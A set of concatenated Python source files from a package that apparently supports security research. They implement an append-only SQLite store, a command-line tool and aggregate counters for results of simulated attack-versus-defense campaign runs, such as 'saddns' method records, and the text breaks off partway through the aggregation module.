from repro.store.schema import (STORE_FORMAT_VERSION, RunRecord,
                                run_from_json, run_key, run_to_json,
                                scenario_spec_hash, seed_key,
                                workload_spec_hash)

__all__ = [
    "STORE_FORMAT_VERSION",
    "RunRecord",
    "RunStore",
    "RunTotals",
    "StoreError",
    "campaign_from_store",
    "merge_totals",
    "run_from_json",
    "run_key",
    "run_to_json",
    "scenario_spec_hash",
    "seed_key",
    "summaries_from_store",
    "totals_from_store",
    "workload_spec_hash",
]
