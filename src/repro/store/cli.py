"""``python -m repro.store`` — inspect and maintain a run store.

Subcommands::

    inspect  runs.db [--json]            # totals, axes, format
    query    runs.db --method saddns     # matching records as a table
    agg      runs.db --by defense        # grouped mergeable totals
    export   runs.db out.jsonl           # records as JSON lines
    vacuum   runs.db                     # checkpoint WAL + compact

Everything reads the same append-only SQLite file campaigns write via
``Campaign.run(store=...)`` and the ``repro serve`` worker pool.
"""

from __future__ import annotations

import argparse
import json
import sys

from repro.store.aggregate import GROUP_AXES, totals_from_store
from repro.store.db import RunStore, StoreError


def _filter_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--method", help="filter: attack method key")
    parser.add_argument("--defense", help="filter: defense-stack key")
    parser.add_argument("--label", help="filter: scenario label")
    parser.add_argument("--app", help="filter: application name")
    parser.add_argument("--spec-hash", dest="spec_hash",
                        help="filter: scenario spec hash")
    parser.add_argument("--success", choices=("yes", "no"),
                        help="filter: attack outcome")
    parser.add_argument("--status", choices=("ok", "failed"),
                        help="filter: executed cells vs recorded "
                             "failures")


def _filters(args: argparse.Namespace) -> dict:
    return {
        "method": args.method,
        "defense": args.defense,
        "label": args.label,
        "app": args.app,
        "spec_hash": args.spec_hash,
        "success": None if args.success is None
        else args.success == "yes",
        "status": args.status,
    }


def _cmd_inspect(args: argparse.Namespace) -> int:
    store = RunStore(args.store)
    totals = totals_from_store(store).get("all")
    if args.json:
        # Machine-readable twin of the prose below: stable keys, full
        # totals payload, so scripts (and the obs CLI) can consume it.
        payload = {
            "schema": "store-inspect/1",
            "store": str(store.path),
            "records": store.count(),
            "failed": store.count(status="failed"),
            "busy_retries": store.total_busy_retries(),
            "spec_hashes": len(store.distinct("spec_hash")),
            "axes": {axis: store.distinct(axis)
                     for axis in ("method", "defense", "app")},
            "totals": totals.to_json()
            if totals is not None else None,
        }
        json.dump(payload, sys.stdout, indent=2, sort_keys=True)
        print()
        return 0
    print(f"store:    {store.path}")
    print(f"records:  {store.count()}")
    failed = store.count(status="failed")
    if failed:
        print(f"failed:   {failed} cells recorded as failures "
              "(re-run with the same store to re-execute them)")
    if totals is not None and totals.runs:
        print(f"success:  {totals.successes}/{totals.runs} "
              f"({totals.success_rate * 100:.0f}%)")
        print(f"saved:    {totals.wall_time:.1f}s of stored compute")
    for axis in ("method", "defense", "app"):
        values = store.distinct(axis)
        if values:
            print(f"{axis + 's:':<10}{', '.join(values)}")
    print(f"hashes:   {len(store.distinct('spec_hash'))} distinct "
          "scenarios")
    retries = store.total_busy_retries()
    if retries:
        print(f"retries:  {retries} writes retried past the busy "
              "timeout (lock contention)")
    return 0


def _cmd_query(args: argparse.Namespace) -> int:
    from repro.measurements.report import render_table

    store = RunStore(args.store)
    # Failed records have no attack statistics worth a column; show
    # the recorded error instead so `--status failed` is actionable.
    show_errors = args.status == "failed"
    rows = []
    for record in store.iter_records(limit=args.limit,
                                     **_filters(args)):
        row = [
            record.spec_hash, record.seed, record.defense,
            record.method, "yes" if record.success else "no",
            f"{record.packets_sent:,}", f"{record.duration:.1f}",
        ]
        if show_errors:
            row.append(record.error)
        rows.append(row)
    headers = ["Spec", "Seed", "Defense", "Method", "Success",
               "Packets", "Duration (s)"]
    if show_errors:
        headers.append("Error")
    print(render_table(headers, rows,
                       title=f"{len(rows)} stored runs"))
    return 0


def _cmd_agg(args: argparse.Namespace) -> int:
    from repro.measurements.report import render_table

    store = RunStore(args.store)
    groups = totals_from_store(store, by=args.by, **_filters(args))
    rows = []
    for key in sorted(groups):
        totals = groups[key]
        rows.append([
            key, totals.runs,
            f"{totals.success_rate * 100:.0f}%",
            f"{totals.impact_rate * 100:.0f}%" if totals.app_runs
            else "-",
            f"{totals.packets:,}", f"{totals.wall_time:.1f}",
        ])
    print(render_table(
        [args.by or "group", "Runs", "Success", "Impact", "Packets",
         "Wall (s)"],
        rows, title=f"Totals by {args.by or 'everything'}"))
    return 0


def _cmd_export(args: argparse.Namespace) -> int:
    store = RunStore(args.store)
    written = store.export_jsonl(args.out, **_filters(args))
    print(f"exported {written} records to {args.out}")
    return 0


def _cmd_vacuum(args: argparse.Namespace) -> int:
    store = RunStore(args.store)
    before = store.path.stat().st_size
    store.vacuum()
    after = store.path.stat().st_size
    print(f"vacuumed {store.path}: {before:,} -> {after:,} bytes")
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro.store",
        description="inspect and maintain an append-only run store")
    commands = parser.add_subparsers(dest="command", required=True)

    inspect = commands.add_parser(
        "inspect", help="store-level totals and axes")
    inspect.add_argument("store", help="path to the SQLite run store")
    inspect.add_argument("--json", action="store_true",
                        help="machine-readable output")
    inspect.set_defaults(fn=_cmd_inspect)

    query = commands.add_parser(
        "query", help="matching records as a table")
    query.add_argument("store", help="path to the SQLite run store")
    query.add_argument("--limit", type=int, default=50,
                       help="max rows to print (default 50)")
    _filter_args(query)
    query.set_defaults(fn=_cmd_query)

    agg = commands.add_parser(
        "agg", help="grouped mergeable totals")
    agg.add_argument("store", help="path to the SQLite run store")
    agg.add_argument("--by", choices=GROUP_AXES,
                     help="grouping axis (default: one overall row)")
    _filter_args(agg)
    agg.set_defaults(fn=_cmd_agg)

    export = commands.add_parser(
        "export", help="records as JSON lines")
    export.add_argument("store", help="path to the SQLite run store")
    export.add_argument("out", help="output .jsonl path")
    _filter_args(export)
    export.set_defaults(fn=_cmd_export)

    vacuum = commands.add_parser(
        "vacuum", help="checkpoint the WAL and compact the file")
    vacuum.add_argument("store", help="path to the SQLite run store")
    vacuum.set_defaults(fn=_cmd_vacuum)

    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    try:
        return args.fn(args)
    except (StoreError, OSError, json.JSONDecodeError) as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 1


if __name__ == "__main__":
    raise SystemExit(main())
