"""The append-only SQLite run store.

One database file holds every executed campaign cell, keyed by
``(spec_hash, seed, defense)`` (see :mod:`repro.store.schema`).  Design
constraints, in order:

* **append-only** — :meth:`RunStore.record` is first-wins: a replayed
  cell is a no-op and nothing rewrites a stored *result*.  The single
  exception is healing: an ``ok`` record replaces a ``failed`` one for
  the same key (a failure is an absence of a result, not a result), so
  resuming a sweep that recorded poisoned cells re-executes exactly the
  failed/missing keys and upgrades them in place.
* **retrying** — writes that lose a lock race beyond SQLite's own
  ``busy_timeout`` retry with bounded backoff (see :func:`retry_locked`)
  instead of surfacing ``OperationalError`` to the campaign; the
  cumulative retry count persists in the ``meta`` table so ``inspect``
  can report contention after the fact.
* **concurrent writers** — the database runs in WAL mode with a busy
  timeout, so the ``repro serve`` worker pool (and independent
  processes sharing one store file) append simultaneously without
  serialising whole sweeps.  Connections are per-thread; the
  :class:`RunStore` object itself may be shared across threads freely.
* **queryable** — the flat record columns are indexed for the CLI /
  service filters (method, defense, label, app, success) and for the
  incremental aggregates in :mod:`repro.store.aggregate`.
"""

from __future__ import annotations

import json
import os
import sqlite3
import threading
import time
from pathlib import Path
from typing import Any, Callable, Iterable, Iterator

from repro.obs import OBS
from repro.store.schema import STORE_FORMAT_VERSION, RunRecord

#: Columns a query filter may constrain (whitelist: filters come from
#: CLI flags and HTTP query strings, never interpolated raw).
FILTER_COLUMNS = ("spec_hash", "seed", "defense", "method", "label",
                  "workload_hash", "app", "success", "status")

_SCHEMA = """
CREATE TABLE IF NOT EXISTS meta (
    key TEXT PRIMARY KEY,
    value TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS runs (
    spec_hash TEXT NOT NULL,
    seed TEXT NOT NULL,
    defense TEXT NOT NULL,
    method TEXT NOT NULL,
    label TEXT NOT NULL,
    workload_hash TEXT NOT NULL DEFAULT '',
    app TEXT,
    success INTEGER NOT NULL,
    packets_sent INTEGER NOT NULL,
    queries_triggered INTEGER NOT NULL,
    duration REAL NOT NULL,
    impact_realized INTEGER,
    load_checksum TEXT,
    wall_time REAL NOT NULL,
    stats TEXT NOT NULL,
    created REAL NOT NULL,
    status TEXT NOT NULL DEFAULT 'ok',
    error TEXT NOT NULL DEFAULT '',
    PRIMARY KEY (spec_hash, seed, defense)
);
CREATE INDEX IF NOT EXISTS runs_method ON runs (method);
CREATE INDEX IF NOT EXISTS runs_defense ON runs (defense);
CREATE INDEX IF NOT EXISTS runs_label ON runs (label);
"""

_COLUMNS = ("spec_hash", "seed", "defense", "method", "label",
            "workload_hash", "app", "success", "packets_sent",
            "queries_triggered", "duration", "impact_realized",
            "load_checksum", "wall_time", "stats", "created",
            "status", "error")

# First-wins upsert with the one healing exception: only an ok record
# may replace a failed one.  A conflicting insert that fails the WHERE
# changes no rows, so record() still reports replays as ignored.
_UPSERT = (
    f"INSERT INTO runs ({', '.join(_COLUMNS)}) "
    f"VALUES ({', '.join('?' * len(_COLUMNS))}) "
    "ON CONFLICT (spec_hash, seed, defense) DO UPDATE SET "
    + ", ".join(f"{column} = excluded.{column}"
                for column in _COLUMNS[3:])
    + " WHERE runs.status = 'failed' AND excluded.status = 'ok'"
)

#: Bounded-backoff retry for writes that stay locked beyond SQLite's
#: busy_timeout: attempt n sleeps ``RETRY_BACKOFF * n`` first.
RETRY_ATTEMPTS = 6
RETRY_BACKOFF = 0.05


def retry_locked(fn: Callable[[], Any],
                 attempts: int = RETRY_ATTEMPTS,
                 backoff: float = RETRY_BACKOFF,
                 on_retry: Callable[[], None] | None = None) -> Any:
    """Run ``fn``, retrying busy/locked ``sqlite3.OperationalError``.

    Any other ``OperationalError`` (corrupt file, bad SQL) propagates
    immediately, as does a lock held past the last attempt.
    """
    attempt = 0
    while True:
        attempt += 1
        try:
            return fn()
        except sqlite3.OperationalError as exc:
            message = str(exc).lower()
            if ("locked" not in message and "busy" not in message) \
                    or attempt >= attempts:
                raise
            if on_retry is not None:
                on_retry()
            time.sleep(backoff * attempt)


class StoreError(Exception):
    """A run-store operation failed (bad path, format mismatch, ...)."""


def _row_to_record(row: sqlite3.Row) -> RunRecord:
    return RunRecord(
        spec_hash=row["spec_hash"],
        seed=row["seed"],
        defense=row["defense"],
        method=row["method"],
        label=row["label"],
        workload_hash=row["workload_hash"],
        app=row["app"],
        success=bool(row["success"]),
        packets_sent=row["packets_sent"],
        queries_triggered=row["queries_triggered"],
        duration=row["duration"],
        impact_realized=None if row["impact_realized"] is None
        else bool(row["impact_realized"]),
        load_checksum=row["load_checksum"],
        wall_time=row["wall_time"],
        stats=json.loads(row["stats"]),
        created=row["created"],
        status=row["status"],
        error=row["error"],
    )


class RunStore:
    """Append-only store of executed campaign cells in one SQLite file.

    ``RunStore("runs.db")`` creates the file (and parent directories)
    on first use.  The object is cheap and thread-safe: each thread
    lazily opens its own WAL-mode connection to the same file.
    """

    def __init__(self, path: str | os.PathLike,
                 busy_timeout: float = 30.0):
        self.path = Path(path)
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.busy_timeout = busy_timeout
        self._local = threading.local()
        # Lock-contention accounting: busy_retries counts this object's
        # retried writes; the cumulative total also persists into the
        # meta table (flushed opportunistically) so a later `inspect`
        # process sees contention it never experienced itself.
        self._retry_lock = threading.Lock()
        self.busy_retries = 0
        self._unflushed_retries = 0
        self._init_schema()

    @classmethod
    def open(cls, store: "RunStore | str | os.PathLike | None"
             ) -> "RunStore | None":
        """Normalise the ``store=`` convenience: path or instance."""
        if store is None or isinstance(store, RunStore):
            return store
        return cls(store)

    # -- connection management -------------------------------------------------

    def _connect(self) -> sqlite3.Connection:
        connection = getattr(self._local, "connection", None)
        if connection is None:
            connection = sqlite3.connect(self.path,
                                         timeout=self.busy_timeout)
            connection.row_factory = sqlite3.Row
            connection.execute("PRAGMA journal_mode=WAL")
            connection.execute("PRAGMA synchronous=NORMAL")
            connection.execute(
                f"PRAGMA busy_timeout={int(self.busy_timeout * 1000)}")
            self._local.connection = connection
        return connection

    def _init_schema(self) -> None:
        connection = self._connect()
        with connection:
            connection.executescript(_SCHEMA)
            connection.execute(
                "INSERT OR IGNORE INTO meta (key, value) VALUES (?, ?)",
                ("store_format", str(STORE_FORMAT_VERSION)))
        stored = connection.execute(
            "SELECT value FROM meta WHERE key = 'store_format'"
        ).fetchone()
        if stored is not None and int(stored["value"]) != \
                STORE_FORMAT_VERSION:
            raise StoreError(
                f"{self.path} is a format-{stored['value']} store; this "
                f"build writes format {STORE_FORMAT_VERSION} — use a "
                "fresh path (records do not migrate across formats)")

    def close(self) -> None:
        """Close this thread's connection (others close on GC/exit)."""
        connection = getattr(self._local, "connection", None)
        if connection is not None:
            connection.close()
            self._local.connection = None

    # -- writes ----------------------------------------------------------------

    def _note_busy_retry(self) -> None:
        with self._retry_lock:
            self.busy_retries += 1
            self._unflushed_retries += 1
        if OBS.enabled:
            OBS.counter("store.busy_retries_total").inc()

    def _flush_busy_retries(self, connection: sqlite3.Connection) -> None:
        """Fold pending retry counts into the meta table (best-effort:
        a store that is still contended keeps them for the next write)."""
        with self._retry_lock:
            pending = self._unflushed_retries
            self._unflushed_retries = 0
        if not pending:
            return
        try:
            with connection:
                connection.execute(
                    "INSERT INTO meta (key, value) VALUES "
                    "('busy_retries', ?) ON CONFLICT (key) DO UPDATE SET"
                    " value = CAST(value AS INTEGER) + ?",
                    (str(pending), pending))
        except sqlite3.OperationalError:
            with self._retry_lock:
                self._unflushed_retries += pending

    def total_busy_retries(self) -> int:
        """Cumulative retried writes across every process that shared
        this store file (plus any not yet flushed by this object)."""
        row = self._connect().execute(
            "SELECT value FROM meta WHERE key = 'busy_retries'"
        ).fetchone()
        persisted = int(row["value"]) if row is not None else 0
        with self._retry_lock:
            return persisted + self._unflushed_retries

    @staticmethod
    def _row_values(record: RunRecord) -> tuple:
        return (record.spec_hash, record.seed, record.defense,
                record.method, record.label, record.workload_hash,
                record.app, int(record.success), record.packets_sent,
                record.queries_triggered, record.duration,
                None if record.impact_realized is None
                else int(record.impact_realized),
                record.load_checksum, record.wall_time,
                json.dumps(record.stats, sort_keys=True,
                           separators=(",", ":")),
                record.created, record.status, record.error)

    def record(self, record: RunRecord) -> bool:
        """Durably append one cell; ``False`` when the key existed.

        Append-only, first-wins: replaying a cell (a resumed sweep, a
        raced retry, two service workers on one grid) never rewrites a
        stored result — except that an ``ok`` record heals a ``failed``
        one, so resumed sweeps upgrade recorded failures in place.
        Writes that stay locked beyond the busy timeout retry with
        bounded backoff before surfacing the error.
        """
        if not record.created:
            record.created = time.time()
        connection = self._connect()

        def _write() -> bool:
            with connection:
                cursor = connection.execute(
                    _UPSERT, self._row_values(record))
            return cursor.rowcount > 0

        written = retry_locked(_write, on_retry=self._note_busy_retry)
        self._flush_busy_retries(connection)
        if OBS.enabled:
            OBS.counter("store.writes_total"
                        if written else "store.replays_total").inc()
        return written

    def record_many(self, records: Iterable[RunRecord]) -> int:
        """Durably append a batch; returns how many actually wrote.

        Delegates to :meth:`record` per item (each write individually
        retried), so store wrappers that intercept ``record`` — chaos
        stores, counting test doubles — see batch writes too, and a
        wrapper that dies mid-batch still leaves the earlier records
        durable for the resume path.
        """
        return sum(1 for record in records if self.record(record))

    # -- point reads -----------------------------------------------------------

    def get(self, key: tuple[str, str, str]) -> RunRecord | None:
        row = self._connect().execute(
            "SELECT * FROM runs WHERE spec_hash = ? AND seed = ? "
            "AND defense = ?", key).fetchone()
        return _row_to_record(row) if row is not None else None

    def __contains__(self, key: tuple[str, str, str]) -> bool:
        return self._connect().execute(
            "SELECT 1 FROM runs WHERE spec_hash = ? AND seed = ? "
            "AND defense = ?", key).fetchone() is not None

    def load_cells(self, spec_hashes: Iterable[str]
                   ) -> dict[tuple[str, str, str], RunRecord]:
        """Every stored record for the given scenario hashes, keyed.

        The campaign resume path uses this to resolve a whole sweep's
        cached cells in one query instead of one lookup per cell.
        """
        hashes = sorted(set(spec_hashes))
        cells: dict[tuple[str, str, str], RunRecord] = {}
        if not hashes:
            return cells
        connection = self._connect()
        for start in range(0, len(hashes), 500):
            chunk = hashes[start:start + 500]
            rows = connection.execute(
                f"SELECT * FROM runs WHERE spec_hash IN "
                f"({', '.join('?' * len(chunk))})", chunk)
            for row in rows:
                record = _row_to_record(row)
                cells[record.key] = record
        return cells

    # -- queries ---------------------------------------------------------------

    def _where(self, filters: dict[str, Any]
               ) -> tuple[str, list[Any]]:
        clauses: list[str] = []
        params: list[Any] = []
        for column, value in filters.items():
            if value is None:
                continue
            if column not in FILTER_COLUMNS:
                raise StoreError(
                    f"unknown filter column {column!r}; filterable: "
                    f"{', '.join(FILTER_COLUMNS)}")
            clauses.append(f"{column} = ?")
            params.append(int(value) if column == "success" else value)
        where = f" WHERE {' AND '.join(clauses)}" if clauses else ""
        return where, params

    def iter_records(self, limit: int | None = None,
                     **filters: Any) -> Iterator[RunRecord]:
        """Stream matching records in deterministic key order."""
        where, params = self._where(filters)
        sql = (f"SELECT * FROM runs{where} "
               "ORDER BY spec_hash, seed, defense")
        if limit is not None:
            sql += " LIMIT ?"
            params.append(limit)
        for row in self._connect().execute(sql, params):
            yield _row_to_record(row)

    def count(self, **filters: Any) -> int:
        where, params = self._where(filters)
        return self._connect().execute(
            f"SELECT COUNT(*) AS n FROM runs{where}", params
        ).fetchone()["n"]

    def distinct(self, column: str) -> list[str]:
        """Distinct non-null values of one queryable column, sorted."""
        if column not in FILTER_COLUMNS:
            raise StoreError(f"unknown column {column!r}")
        rows = self._connect().execute(
            f"SELECT DISTINCT {column} AS v FROM runs "
            f"WHERE {column} IS NOT NULL ORDER BY v")
        return [row["v"] for row in rows]

    # -- maintenance -----------------------------------------------------------

    def export_jsonl(self, path: str | os.PathLike,
                     **filters: Any) -> int:
        """Write matching records as JSON lines; returns the count."""
        written = 0
        with Path(path).open("w", encoding="utf-8") as handle:
            for record in self.iter_records(**filters):
                handle.write(json.dumps(record.to_json(), sort_keys=True)
                             + "\n")
                written += 1
        return written

    def vacuum(self) -> None:
        """Compact the database file (checkpoints the WAL first)."""
        connection = self._connect()
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        connection.execute("VACUUM")
