"""The append-only SQLite run store.

One database file holds every executed campaign cell, keyed by
``(spec_hash, seed, defense)`` (see :mod:`repro.store.schema`).  Design
constraints, in order:

* **append-only** — :meth:`RunStore.record` is ``INSERT OR IGNORE``:
  the first complete record for a key wins, a replayed cell is a no-op,
  and nothing ever rewrites history.  Resume semantics follow for free:
  a killed sweep keeps every completed cell durable and a rerun
  recomputes only the missing keys (mirroring the atlas JSONL store).
* **concurrent writers** — the database runs in WAL mode with a busy
  timeout, so the ``repro serve`` worker pool (and independent
  processes sharing one store file) append simultaneously without
  serialising whole sweeps.  Connections are per-thread; the
  :class:`RunStore` object itself may be shared across threads freely.
* **queryable** — the flat record columns are indexed for the CLI /
  service filters (method, defense, label, app, success) and for the
  incremental aggregates in :mod:`repro.store.aggregate`.
"""

from __future__ import annotations

import json
import os
import sqlite3
import threading
import time
from pathlib import Path
from typing import Any, Iterable, Iterator

from repro.store.schema import STORE_FORMAT_VERSION, RunRecord

#: Columns a query filter may constrain (whitelist: filters come from
#: CLI flags and HTTP query strings, never interpolated raw).
FILTER_COLUMNS = ("spec_hash", "seed", "defense", "method", "label",
                  "workload_hash", "app", "success")

_SCHEMA = """
CREATE TABLE IF NOT EXISTS meta (
    key TEXT PRIMARY KEY,
    value TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS runs (
    spec_hash TEXT NOT NULL,
    seed TEXT NOT NULL,
    defense TEXT NOT NULL,
    method TEXT NOT NULL,
    label TEXT NOT NULL,
    workload_hash TEXT NOT NULL DEFAULT '',
    app TEXT,
    success INTEGER NOT NULL,
    packets_sent INTEGER NOT NULL,
    queries_triggered INTEGER NOT NULL,
    duration REAL NOT NULL,
    impact_realized INTEGER,
    load_checksum TEXT,
    wall_time REAL NOT NULL,
    stats TEXT NOT NULL,
    created REAL NOT NULL,
    PRIMARY KEY (spec_hash, seed, defense)
);
CREATE INDEX IF NOT EXISTS runs_method ON runs (method);
CREATE INDEX IF NOT EXISTS runs_defense ON runs (defense);
CREATE INDEX IF NOT EXISTS runs_label ON runs (label);
"""

_COLUMNS = ("spec_hash", "seed", "defense", "method", "label",
            "workload_hash", "app", "success", "packets_sent",
            "queries_triggered", "duration", "impact_realized",
            "load_checksum", "wall_time", "stats", "created")


class StoreError(Exception):
    """A run-store operation failed (bad path, format mismatch, ...)."""


def _row_to_record(row: sqlite3.Row) -> RunRecord:
    return RunRecord(
        spec_hash=row["spec_hash"],
        seed=row["seed"],
        defense=row["defense"],
        method=row["method"],
        label=row["label"],
        workload_hash=row["workload_hash"],
        app=row["app"],
        success=bool(row["success"]),
        packets_sent=row["packets_sent"],
        queries_triggered=row["queries_triggered"],
        duration=row["duration"],
        impact_realized=None if row["impact_realized"] is None
        else bool(row["impact_realized"]),
        load_checksum=row["load_checksum"],
        wall_time=row["wall_time"],
        stats=json.loads(row["stats"]),
        created=row["created"],
    )


class RunStore:
    """Append-only store of executed campaign cells in one SQLite file.

    ``RunStore("runs.db")`` creates the file (and parent directories)
    on first use.  The object is cheap and thread-safe: each thread
    lazily opens its own WAL-mode connection to the same file.
    """

    def __init__(self, path: str | os.PathLike):
        self.path = Path(path)
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self._local = threading.local()
        self._init_schema()

    @classmethod
    def open(cls, store: "RunStore | str | os.PathLike | None"
             ) -> "RunStore | None":
        """Normalise the ``store=`` convenience: path or instance."""
        if store is None or isinstance(store, RunStore):
            return store
        return cls(store)

    # -- connection management -------------------------------------------------

    def _connect(self) -> sqlite3.Connection:
        connection = getattr(self._local, "connection", None)
        if connection is None:
            connection = sqlite3.connect(self.path, timeout=30.0)
            connection.row_factory = sqlite3.Row
            connection.execute("PRAGMA journal_mode=WAL")
            connection.execute("PRAGMA synchronous=NORMAL")
            connection.execute("PRAGMA busy_timeout=30000")
            self._local.connection = connection
        return connection

    def _init_schema(self) -> None:
        connection = self._connect()
        with connection:
            connection.executescript(_SCHEMA)
            connection.execute(
                "INSERT OR IGNORE INTO meta (key, value) VALUES (?, ?)",
                ("store_format", str(STORE_FORMAT_VERSION)))
        stored = connection.execute(
            "SELECT value FROM meta WHERE key = 'store_format'"
        ).fetchone()
        if stored is not None and int(stored["value"]) != \
                STORE_FORMAT_VERSION:
            raise StoreError(
                f"{self.path} is a format-{stored['value']} store; this "
                f"build writes format {STORE_FORMAT_VERSION} — use a "
                "fresh path (records do not migrate across formats)")

    def close(self) -> None:
        """Close this thread's connection (others close on GC/exit)."""
        connection = getattr(self._local, "connection", None)
        if connection is not None:
            connection.close()
            self._local.connection = None

    # -- writes ----------------------------------------------------------------

    def record(self, record: RunRecord) -> bool:
        """Durably append one cell; ``False`` when the key existed.

        Append-only, first-wins: replaying a cell (a resumed sweep, a
        raced retry, two service workers on one grid) never rewrites a
        stored result, so aggregates stay stable under idempotent
        retry.
        """
        if not record.created:
            record.created = time.time()
        connection = self._connect()
        with connection:
            cursor = connection.execute(
                f"INSERT OR IGNORE INTO runs ({', '.join(_COLUMNS)}) "
                f"VALUES ({', '.join('?' * len(_COLUMNS))})",
                (record.spec_hash, record.seed, record.defense,
                 record.method, record.label, record.workload_hash,
                 record.app, int(record.success), record.packets_sent,
                 record.queries_triggered, record.duration,
                 None if record.impact_realized is None
                 else int(record.impact_realized),
                 record.load_checksum, record.wall_time,
                 json.dumps(record.stats, sort_keys=True,
                            separators=(",", ":")),
                 record.created))
        return cursor.rowcount > 0

    # -- point reads -----------------------------------------------------------

    def get(self, key: tuple[str, str, str]) -> RunRecord | None:
        row = self._connect().execute(
            "SELECT * FROM runs WHERE spec_hash = ? AND seed = ? "
            "AND defense = ?", key).fetchone()
        return _row_to_record(row) if row is not None else None

    def __contains__(self, key: tuple[str, str, str]) -> bool:
        return self._connect().execute(
            "SELECT 1 FROM runs WHERE spec_hash = ? AND seed = ? "
            "AND defense = ?", key).fetchone() is not None

    def load_cells(self, spec_hashes: Iterable[str]
                   ) -> dict[tuple[str, str, str], RunRecord]:
        """Every stored record for the given scenario hashes, keyed.

        The campaign resume path uses this to resolve a whole sweep's
        cached cells in one query instead of one lookup per cell.
        """
        hashes = sorted(set(spec_hashes))
        cells: dict[tuple[str, str, str], RunRecord] = {}
        if not hashes:
            return cells
        connection = self._connect()
        for start in range(0, len(hashes), 500):
            chunk = hashes[start:start + 500]
            rows = connection.execute(
                f"SELECT * FROM runs WHERE spec_hash IN "
                f"({', '.join('?' * len(chunk))})", chunk)
            for row in rows:
                record = _row_to_record(row)
                cells[record.key] = record
        return cells

    # -- queries ---------------------------------------------------------------

    def _where(self, filters: dict[str, Any]
               ) -> tuple[str, list[Any]]:
        clauses: list[str] = []
        params: list[Any] = []
        for column, value in filters.items():
            if value is None:
                continue
            if column not in FILTER_COLUMNS:
                raise StoreError(
                    f"unknown filter column {column!r}; filterable: "
                    f"{', '.join(FILTER_COLUMNS)}")
            clauses.append(f"{column} = ?")
            params.append(int(value) if column == "success" else value)
        where = f" WHERE {' AND '.join(clauses)}" if clauses else ""
        return where, params

    def iter_records(self, limit: int | None = None,
                     **filters: Any) -> Iterator[RunRecord]:
        """Stream matching records in deterministic key order."""
        where, params = self._where(filters)
        sql = (f"SELECT * FROM runs{where} "
               "ORDER BY spec_hash, seed, defense")
        if limit is not None:
            sql += " LIMIT ?"
            params.append(limit)
        for row in self._connect().execute(sql, params):
            yield _row_to_record(row)

    def count(self, **filters: Any) -> int:
        where, params = self._where(filters)
        return self._connect().execute(
            f"SELECT COUNT(*) AS n FROM runs{where}", params
        ).fetchone()["n"]

    def distinct(self, column: str) -> list[str]:
        """Distinct non-null values of one queryable column, sorted."""
        if column not in FILTER_COLUMNS:
            raise StoreError(f"unknown column {column!r}")
        rows = self._connect().execute(
            f"SELECT DISTINCT {column} AS v FROM runs "
            f"WHERE {column} IS NOT NULL ORDER BY v")
        return [row["v"] for row in rows]

    # -- maintenance -----------------------------------------------------------

    def export_jsonl(self, path: str | os.PathLike,
                     **filters: Any) -> int:
        """Write matching records as JSON lines; returns the count."""
        written = 0
        with Path(path).open("w", encoding="utf-8") as handle:
            for record in self.iter_records(**filters):
                handle.write(json.dumps(record.to_json(), sort_keys=True)
                             + "\n")
                written += 1
        return written

    def vacuum(self) -> None:
        """Compact the database file (checkpoints the WAL first)."""
        connection = self._connect()
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        connection.execute("VACUUM")
