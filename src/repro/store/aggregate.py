"""Incremental aggregates over the run store.

Two consumers, two shapes:

* :func:`campaign_from_store` / :func:`summaries_from_store` rebuild
  the *exact* live aggregation objects — a
  :class:`repro.scenario.campaign.CampaignResult` whose runs are
  genuine :class:`ScenarioRun` reconstructions, and the
  ``MethodSummary`` groupings every report path consumes.  Because the
  stored stats JSON round-trips every aggregated field exactly, the
  reconstructed aggregates are bit-identical to the live sweep's
  without re-running a single cell.
* :class:`RunTotals` is the cheap mergeable counter set the service's
  ``/aggregate`` endpoint and the store CLI serve from: totals of two
  disjoint record streams merge associatively, so partial sweeps,
  concurrent workers and sharded stores sum without reconstruction.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Iterable

from repro.store.db import RunStore, StoreError

#: Grouping axes :func:`totals_from_store` and the CLI accept.
GROUP_AXES = ("method", "defense", "label", "app", "workload_hash",
              "spec_hash")


@dataclass
class RunTotals:
    """Mergeable counters over a stream of stored runs."""

    key: str = ""
    runs: int = 0
    successes: int = 0
    packets: int = 0
    queries: int = 0
    duration: float = 0.0
    wall_time: float = 0.0
    app_runs: int = 0
    impacts_realized: int = 0
    loaded_runs: int = 0

    def note(self, record: Any) -> None:
        """Fold one :class:`repro.store.schema.RunRecord` in."""
        self.runs += 1
        self.successes += 1 if record.success else 0
        self.packets += record.packets_sent
        self.queries += record.queries_triggered
        self.duration += record.duration
        self.wall_time += record.wall_time
        if record.impact_realized is not None:
            self.app_runs += 1
            self.impacts_realized += 1 if record.impact_realized else 0
        if record.load_checksum is not None:
            self.loaded_runs += 1

    def note_run(self, run: Any) -> None:
        """Fold one live :class:`repro.scenario.spec.ScenarioRun` in.

        The campaign runner streams worker chunks through here in
        completion order, so sweep totals accumulate while later
        batches are still executing — no end-of-run pass over the run
        list.  Folding a run live and folding its stored
        :class:`RunRecord` later produce identical totals; the integer
        counters are exact under any fold order, while the float sums
        (``duration``, ``wall_time``) agree only up to float-addition
        associativity across completion orders.
        """
        self.runs += 1
        self.successes += 1 if run.success else 0
        self.packets += run.packets_sent
        self.queries += run.queries_triggered
        self.duration += run.duration
        self.wall_time += run.wall_time
        if run.app_result is not None:
            self.app_runs += 1
            self.impacts_realized += 1 if run.impact_realized else 0
        if run.load_report is not None:
            self.loaded_runs += 1

    def merge(self, other: "RunTotals") -> "RunTotals":
        """Associative combine of two disjoint streams' totals."""
        return RunTotals(
            key=self.key or other.key,
            runs=self.runs + other.runs,
            successes=self.successes + other.successes,
            packets=self.packets + other.packets,
            queries=self.queries + other.queries,
            duration=self.duration + other.duration,
            wall_time=self.wall_time + other.wall_time,
            app_runs=self.app_runs + other.app_runs,
            impacts_realized=self.impacts_realized + other.impacts_realized,
            loaded_runs=self.loaded_runs + other.loaded_runs,
        )

    @property
    def success_rate(self) -> float:
        return self.successes / self.runs if self.runs else 0.0

    @property
    def impact_rate(self) -> float:
